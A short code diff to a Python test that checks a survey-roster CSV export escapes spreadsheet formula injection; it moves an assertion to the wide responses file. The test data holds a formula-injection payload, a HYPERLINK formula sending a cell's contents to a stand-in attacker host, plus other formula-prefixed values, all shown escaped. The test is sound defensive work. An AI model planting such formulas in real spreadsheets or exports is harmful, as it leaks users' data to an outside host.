@@ -84,8 +84,10 @@ def test_roster_text_a_spreadsheet_would_run_is_exported_as_text(
         table = pd.read_csv(tmp_path / f"{name}.csv", dtype=str, keep_default_na=False)
         texts = [*table["site"], *table["team"]]
         assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))], name
-        assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in set(table["site"])
+    # The wide file has everyone invited (the long one only those who answered, whose sites
+    # depend on the database's order), so every site and team is in it.
     wide = pd.read_csv(tmp_path / "responses_wide.csv", dtype=str, keep_default_na=False)
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in set(wide["site"])
     assert {"'+T05@SUM(1+1)", "'\tDU-2", "DU-3"} <= set(wide["team"])
     book = pd.read_csv(tmp_path / "codebook.csv").set_index("variable")
     assert "apostrophe" in book.loc["site", "notes"]
